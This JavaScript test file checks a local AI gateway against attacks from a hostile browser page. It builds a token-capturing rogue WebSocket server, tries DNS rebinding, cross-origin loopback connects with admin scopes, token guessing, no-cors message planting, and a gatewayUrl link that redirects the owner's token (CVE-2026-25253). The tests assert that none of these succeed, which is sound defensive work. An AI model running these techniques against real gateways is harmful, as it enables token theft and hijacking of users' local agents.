// A hostile page in a real browser on the same machine: what it can reach of the gateway on loopback, from another port, from
// a name of its own, and from a name rebound to the gateway's address. The same page against the original and ours.
//
// CVE-2026-25253 (the Control UI handed its token to a gateway named in its address) and the chain of February 2026 (any web
// page reached the loopback socket, guessed without limit and paired silently).
import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import test from "node:test";
import { chromium } from "playwright-core";
import { WebSocketServer } from "ws";
import { startOriginal, startOurs, TOKEN } from "../lib/gateway.mjs";
import { RawClient } from "../lib/raw.mjs";
import { tempDir, until } from "../lib/tools.mjs";

const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
const GUESSES = 14;
const BACKEND = { id: "gateway-client", mode: "backend" };

/** An HTTP server with an empty page under every path, and a WebSocket server that keeps what it is told. */
async function startHostile() {
  const told = [];
  const server = http.createServer((_request, response) => {
    response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>hostile</title>");
  });
  new WebSocketServer({ server }).on("connection", (socket) => {
    socket.send(JSON.stringify({ type: "event", event: "connect.challenge", payload: { nonce: "n", ts: Date.now() } }));
    socket.on("message", (data) => told.push(data.toString()));
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { port: server.address().port, told, stop: () => server.closeAllConnections() ?? server.close() };
}

async function openBrowser(t) {
  const profile = tempDir("chromium");
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM, headless: true,
    args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--host-resolver-rules=MAP *.hostile.test 127.0.0.1"],
  });
  t.after(async () => {
    await context.close();
    fs.rmSync(profile, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 });
  });
  return context;
}

/** In the page: a connect with these params; answers what came of it. */
const connect = ({ port, params }) => new Promise((resolve) => {
  const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
  let answer = null;
  socket.onmessage = ({ data }) => {
    const frame = JSON.parse(data);
    if (frame.event === "connect.challenge") socket.send(JSON.stringify({ type: "req", id: "1", method: "connect", params }));
    else if (frame.id === "1") {
      answer = frame.ok ? { ok: true } : { code: frame.error?.code, reason: frame.error?.details?.code };
      if (frame.ok) socket.close();
    }
  };
  socket.onclose = ({ code }) => resolve({ answer, closed: code });
  setTimeout(() => resolve({ answer, closed: "not within 60 s" }), 60_000);
});

const params = (auth, client = {}) => ({
  minProtocol: 4, maxProtocol: 4, role: "operator", scopes: ["operator.admin", "operator.read", "operator.write"], caps: [],
  client: { id: "openclaw-control-ui", version: "2026.9.6", platform: "web", mode: "webchat", ...client }, ...(auth ? { auth } : {}),
});

/** In the page: requests that need no leave of the server to be sent. `read` is whether the page could see the answer. */
const request = async ({ port, path, method = "GET", type, body }) => {
  const url = `http://127.0.0.1:${port}${path}`;
  const options = { method, body, headers: type ? { "content-type": type } : {} };
  let read = true;
  try {
    await (await fetch(url, options)).text();
  } catch {
    read = false;
    await fetch(url, { ...options, mode: "no-cors" }).catch(() => {});
  }
  return { read };
};

/** In the page: what its own origin answers. */
const own = async (paths) => {
  const statuses = {};
  for (const [path, method] of Object.entries(paths)) {
    const body = method === "POST" ? JSON.stringify({ channel: "webchat", target: "x", content: "planted", model: "openclaw", messages: [] }) : undefined;
    statuses[path] = (await fetch(path, { method, body, headers: body ? { "content-type": "application/json" } : {} })).status;
  }
  return statuses;
};

const seen = {};
for (const side of ["original", "ours"]) {
  test(`a hostile page gets nothing out of a gateway on loopback (${side})`, async (t) => {
    const hostile = await startHostile();
    t.after(() => hostile.stop());
    let target = await startOriginal();
    t.after(target.stop.bind(target));
    if (side === "ours") {
      target = await startOurs({ upstream: { attach: target } });
      t.after(() => target.stop());
    }
    const browser = await openBrowser(t);
    const page = await browser.newPage();
    const observed = {};
    const origins = {
      "another port": `http://127.0.0.1:${hostile.port}/`,
      "localhost": `http://localhost:${hostile.port}/`,
      "a name of its own": `http://page.hostile.test:${hostile.port}/`,
      "a name rebound to the gateway": `http://rebound.hostile.test:${target.port}/`,
    };
    for (const [name, origin] of Object.entries(origins)) {
      await page.goto(origin);
      const at = (observed[name] = {});
      at.nothing = await page.evaluate(connect, { port: target.port, params: params() });
      at.token = await page.evaluate(connect, { port: target.port, params: params({ token: TOKEN }) });
      // What a program on this machine may do, a page that knows the secret may from this machine's own origins alone.
      observed.backend ??= {};
      observed.backend[name] = await page.evaluate(connect, { port: target.port, params: params({ token: TOKEN }, BACKEND) });
      at.config = await page.evaluate(request, { port: target.port, path: "/control-ui-config.json" });
      at.health = await page.evaluate(request, { port: target.port, path: "/healthz" });
      const message = JSON.stringify({ channel: "webchat", target: "x", content: "planted" });
      at.post = await page.evaluate(request, { port: target.port, path: "/api/message", method: "POST", type: "text/plain", body: message });
      at.hook = await page.evaluate(request, { port: target.port, path: "/hooks/wake", method: "POST", type: "text/plain", body: "{}" });
    }
    // A rebound name makes the gateway the page's own origin: what it may read there is what anybody may.
    await page.goto(origins["a name rebound to the gateway"]);
    observed.rebound = await page.evaluate(own, {
      "/healthz": "GET", "/control-ui-config.json": "GET", "/v1/models": "GET", "/v1/chat/completions": "POST", "/tools/invoke": "POST",
    });
    if (side === "ours") {
      assert.deepEqual(await page.evaluate(own, { "/api/messages": "GET", "/api/message": "POST", "/api/diagnostics/prometheus": "GET" }),
        { "/api/messages": 401, "/api/message": 401, "/api/diagnostics/prometheus": 401 });
    }
    await page.goto(origins["another port"]);
    const guesses = [];
    for (let n = 0; n < GUESSES; n++) guesses.push(await page.evaluate(connect, { port: target.port, params: params({ token: `guess-${n}` }, BACKEND) }));
    observed.guesses = [...new Set(guesses.map((guess) => JSON.stringify(guess)))];
    const framed = await fetch(`${target.url}/`);
    observed.framing = { xfo: framed.headers.get("x-frame-options"), csp: /frame-ancestors [^;]*/.exec(framed.headers.get("content-security-policy") ?? "")?.[0], connect: /connect-src [^;]*/.exec(framed.headers.get("content-security-policy") ?? "")?.[0] };

    // The owner is still let in, and nobody was paired.
    const owner = await RawClient.open(target.wsUrl);
    assert.equal((await owner.connect({ token: TOKEN })).ok, true);
    const { payload } = await owner.call("device.pair.list", {});
    observed.paired = [payload.paired?.length, payload.pending?.length];
    if (side === "ours") {
      const { messages } = await (await fetch(`${target.url}/api/messages`, { headers: { authorization: `Bearer ${TOKEN}` } })).json();
      assert.deepEqual(messages, [], "a page planted a message");
    }
    await owner.end();

    // CVE-2026-25253: an address that names another gateway.
    const ui = await browser.newPage();
    await ui.goto(`${target.url}/?gatewayUrl=${encodeURIComponent(`ws://127.0.0.1:${hostile.port}`)}#token=${TOKEN}`);
    await until("the Control UI to be there", async () => (await ui.locator("body").innerText()).length > 0);
    observed.ui = hostile.told.filter((text) => text.includes(TOKEN)).length;
    seen[side] = observed;
  });
}

test("both sides gave the page the same, and it is nothing", () => {
  assert.deepEqual(seen.ours, seen.original);
  for (const name of ["another port", "localhost", "a name of its own", "a name rebound to the gateway"]) {
    const { nothing, token, ...requests } = seen.ours[name];
    assert.ok(!nothing.answer?.ok && !token.answer?.ok, `${name}: let in`);
    for (const [what, { read }] of Object.entries(requests)) assert.ok(!read, `${name}: ${what} could be read`);
  }
  assert.ok(seen.ours.guesses.length > 1, "guessing was never limited");
  assert.deepEqual([seen.ours.paired, seen.ours.ui], [[0, 0], 0]);
});
